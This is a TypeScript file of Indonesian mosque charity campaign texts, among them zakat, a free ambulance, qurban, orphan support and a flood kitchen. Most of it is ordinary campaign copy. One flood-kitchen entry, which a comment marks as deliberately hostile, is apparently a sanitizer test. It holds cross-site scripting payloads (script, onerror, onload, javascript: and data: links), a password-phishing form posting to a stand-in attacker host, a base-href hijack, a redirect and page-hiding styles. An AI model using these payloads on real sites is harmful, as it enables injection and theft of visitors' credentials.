import { type CampaignText, picture } from './text'

/** Texts of the campaigns about people in need, by slug. */
export function socialTexts(assetUrl: string): Record<string, CampaignText> {
  return {
    'zakat-mal-mustahik-sekitar-masjid': {
      summary:
        '<p>Zakat penghasilan, simpanan, dan perdagangan, disalurkan kepada delapan asnaf di sekitar masjid.</p>',
      full: '<h2>Kepada siapa</h2><p>UPZ mendata keluarga fakir dan miskin bersama pengurus RT, dan menyalurkan zakat setiap pekan.</p>',
    },
    'zakat-fitrah-beras-untuk-dhuafa': {
      summary: '<p>Dibelikan beras dan disalurkan sebelum shalat Idul Fitri.</p>',
      full: '<h2>Kapan disalurkan</h2><p>Sejak awal Ramadhan sampai sebelum khatib naik mimbar.</p>',
    },
    'fidyah-makanan-siap-santap': {
      summary: '<p>Satu hari puasa diganti satu paket makanan untuk seorang miskin.</p>',
      full: '<h2>Bagaimana disalurkan</h2><p>Dapur masjid memasak setiap hari kerja dan mengantarnya ke rumah penerima.</p>',
    },
    'ambulans-gratis-masjid-al-anwar': {
      summary: `
<p>Pukul dua dini hari, Bu Rohmah hendak melahirkan. Suaminya mengetuk tiga pintu sebelum menemukan mobil bak yang bersedia mengantar. Bayinya lahir di perjalanan, di bawah terpal, selamat atas izin Allah.</p>
<p>Takmir Masjid Al-Anwar tidak ingin ada yang mengalaminya lagi. Mereka menyiapkan <strong>ambulans gratis 24 jam</strong> untuk delapan kelurahan: pasien, ibu melahirkan, dan jenazah, tanpa membedakan agama.</p>
<p>Penggalangan tinggal beberapa hari lagi. Dealer telah memberi harga khusus yang berlaku sampai batas waktu ini.</p>
<ul><li>kendaraan dan karoseri: Rp 268 juta;</li><li>tandu, oksigen, dan alat darurat: Rp 47 juta;</li><li>pelatihan sopir dan operasional 3 bulan: Rp 35 juta.</li></ul>`,
      full: `
<h2>Karena menit sangat berarti</h2>
<p>Rumah sakit terdekat berjarak 17 kilometer. Sewa ambulans Rp 450.000 sekali jalan, lebih dari upah empat hari buruh tani. Banyak warga akhirnya menunggu pagi, dan sebagian terlambat.</p>
${picture(assetUrl, 'ambulans.webp', 'Ilustrasi ambulans melintas di depan masjid saat fajar')}
<h3>Layanan</h3>
<ol><li>Antar pasien gawat darurat dan kontrol rutin.</li><li>Antar ibu melahirkan, didampingi bidan desa.</li><li>Antar jenazah dan bantuan perlengkapan.</li></ol>
<h3>Yang menjalankan</h3>
<p>Enam sopir relawan bergiliran, semuanya sudah menjalani pelatihan bantuan hidup dasar. Biaya bahan bakar ditanggung kencleng Jumat, sehingga keluarga pasien <strong>tidak membayar sepeser pun</strong>.</p>
<blockquote><p>“Waktu suami saya sesak napas, saya bahkan tidak tahu harus menelepon siapa. Kalau saja waktu itu sudah ada ambulans masjid.”</p><p>— Bu Sarinah, jamaah</p></blockquote>
<p>Bila target tidak tercapai pada batas waktu, dana dipakai untuk membeli kendaraan bekas yang layak dan diumumkan terbuka kepada para donatur.</p>`,
    },
    'buka-puasa-seribu-porsi': {
      summary: `
<p>Seribu porsi buka puasa sunnah Senin–Kamis telah dibagikan di 14 masjid pinggiran kota: untuk buruh pabrik, sopir, dan mahasiswa rantau.</p>
<p>Program telah berakhir. Jazakumullah khairan atas setiap butir kurma yang Anda hadirkan.</p>`,
      full: `
<h2>Sebutir kurma, pahala yang sama</h2>
<p>Siapa yang memberi makan orang yang berbuka, baginya pahala seperti orang yang berpuasa itu, tanpa mengurangi pahalanya sedikit pun.</p>
<h3>Satu porsi Rp 35.000</h3>
<ul><li>nasi, lauk, sayur, dan buah;</li><li>tiga butir kurma dan air minum;</li><li>dibungkus daun dan kotak kertas, tanpa plastik.</li></ul>
${picture(assetUrl, 'buka-puasa.webp', 'Ilustrasi hidangan buka puasa di bawah lentera saat senja')}
<p>Laporan lengkap dapat dilihat pada halaman Kabar Terbaru.</p>`,
    },
    'qurban-untuk-pelosok-negeri': {
      summary: `
<p>Di beberapa kampung, daging hanya hadir setahun sekali, itu pun bila ada yang berqurban. Titipkan qurban atau sedekah daging Anda untuk 60 desa di NTT, Mentawai, dan lereng Merapi.</p>
<ul><li>kambing atau domba: Rp 2.400.000;</li><li>sepertujuh sapi: Rp 2.650.000;</li><li>sedekah daging: berapa pun.</li></ul>
<p>Hewan dibeli dari peternak desa penerima, sehingga kebaikannya berputar dua kali.</p>`,
      full: `
<h2>Bahagia yang sampai ke ujung jalan</h2>
<p>Perjalanan ke Desa Fatukoto memerlukan dua jam dengan truk dan satu jam berjalan kaki. Di sana warga menyambut hewan qurban dengan tarian, lalu memasak bersama di halaman mushola. Tetangga yang berlainan keyakinan ikut membantu dan ikut makan.</p>
${picture(assetUrl, 'qurban.webp', 'Ilustrasi domba merumput di perbukitan hijau')}
<h3>Kami pastikan</h3>
<ol><li>hewan sehat, cukup umur, dan diperiksa dokter hewan;</li><li>disembelih sesuai syariat pada hari-hari tasyrik;</li><li>nama pequrban dibacakan, laporan dikirim melalui WhatsApp;</li><li>daging dibungkus daun jati atau besek bambu.</li></ol>`,
    },
    'santunan-yatim-cahaya-ramadhan': {
      summary: `
<p>Ada 312 anak yatim yang setiap bulan berkumpul di masjid-masjid jejaring untuk belajar, bermain, dan didengarkan. Santunan ini menjaga agar mereka tetap sekolah dan tetap tertawa.</p>
<p>Program <strong>tanpa target dan tanpa batas waktu</strong>: selama ada yang perlu dipeluk, pintunya terbuka.</p>
<blockquote><p>“Aku dan orang yang menanggung anak yatim di surga seperti ini,” sabda Rasulullah, seraya merapatkan jari telunjuk dan jari tengahnya.</p></blockquote>
<p>Setiap anak memiliki kakak pendamping dari remaja masjid yang menemani belajar dua kali sepekan, menjenguk saat sakit, dan mengingat hari lahirnya.</p>`,
      full: `
<h2>Bukan sekadar amplop</h2>
<p>Santunan sering berhenti pada serah terima amplop dan foto bersama. Kami memilih jalan yang lebih sunyi: pendampingan sepanjang tahun, tanpa spanduk, tanpa wajah anak di media sosial.</p>
<h3>Bentuk santunan</h3>
<ul><li>uang sekolah dan seragam;</li><li>bimbingan belajar dan mengaji;</li><li>pemeriksaan gigi dan mata;</li><li>paket lebaran pilihan mereka sendiri.</li></ul>
${picture(assetUrl, 'santunan-yatim.webp', 'Ilustrasi lentera-lentera menyala di malam berbintang')}
<p>Ibu-ibu mereka pun didampingi: pelatihan menjahit, membuat kue, dan modal kecil tanpa bunga.</p>`,
    },
    // Hostile on purpose: what the app shows of it must be harmless.
    'dapur-umum-banjir-masjid-an-nur': {
      summary: `
<p>Air naik sejak Senin malam. Sebanyak 1.200 warga mengungsi ke lantai dua Masjid An-Nur, dan dapur umum menyala tanpa henti sejak itu.</p>
<script>document.documentElement.dataset.hacked = 'script'</script>
<p onclick="document.documentElement.dataset.hacked='onclick'">Dibutuhkan beras, telur, popok, selimut, dan obat-obatan. <strong>Rp 20.000</strong> cukup untuk satu orang makan sehari.</p>
<img src="x" onerror="document.documentElement.dataset.hacked='onerror'">
<p><a href="javascript:document.documentElement.dataset.hacked='link'">Lihat lokasi pengungsian</a></p>
<p style="position:fixed;inset:0;z-index:9999;background:#fff">Relawan bergiliran memasak tiga kali sehari.</p>`,
      full: `
<h2>Dapur yang tak pernah padam</h2>
<p>Enam kompor, tiga wajan besar, dan puluhan relawan. Sejak hari pertama, para ibu dari kampung yang tidak terendam datang membawa sayur dari kebun mereka.</p>
<iframe src="javascript:parent.document.documentElement.dataset.hacked='iframe'" title="x"></iframe>
<svg onload="document.documentElement.dataset.hacked='svg'"><script>document.documentElement.dataset.hacked='svg-script'</script></svg>
<form action="https://jahat.contoh.id/curi"><input name="password" placeholder="Masukkan kata sandi"><button>Masuk</button></form>
<style>body { display: none }</style>
<base href="https://jahat.contoh.id/">
<meta http-equiv="refresh" content="0;url=https://jahat.contoh.id/">
<h3>Kebutuhan setiap hari</h3>
<ul><li>beras 180 kg;</li><li>telur 2.400 butir;</li><li>air minum 900 liter;</li><li>popok bayi dan lansia.</li></ul>
<p><a href="https://contoh.id/laporan" onmouseover="document.documentElement.dataset.hacked='onmouseover'">Laporan harian</a> · <a href="data:text/html,<script>parent.hacked=1</script>">Peta dapur</a></p>
${picture(assetUrl, 'dapur-umum.webp', 'Ilustrasi kuali besar mengepul di dapur umum masjid')}
<object data="https://jahat.contoh.id/a.swf"></object>
<p>Setelah air surut, sisa dana dipakai untuk membersihkan masjid dan sekolah yang terendam.</p>`,
    },
    'jumat-berkah-nasi-kotak': {
      summary: `
<p>Enam pekan berturut-turut, 150 nasi kotak dibagikan selepas Jumat kepada pemulung, penyapu jalan, dan siapa pun yang lapar.</p>
<p>Target terlampaui dan program telah selesai. Terima kasih, orang-orang baik.</p>`,
      full: `
<h2>Enam Jumat, sembilan ratus senyum</h2>
<p>Nasi dimasak oleh enam warung kecil di sekitar masjid secara bergiliran, sehingga sedekah Anda juga menjadi rezeki bagi mereka.</p>
<ul><li>900 nasi kotak;</li><li>6 warung;</li><li>41 relawan.</li></ul>
<p>Sisa dana sebesar Rp 1.650.000 dialihkan ke kencleng masjid atas persetujuan jamaah.</p>`,
    },
  }
}
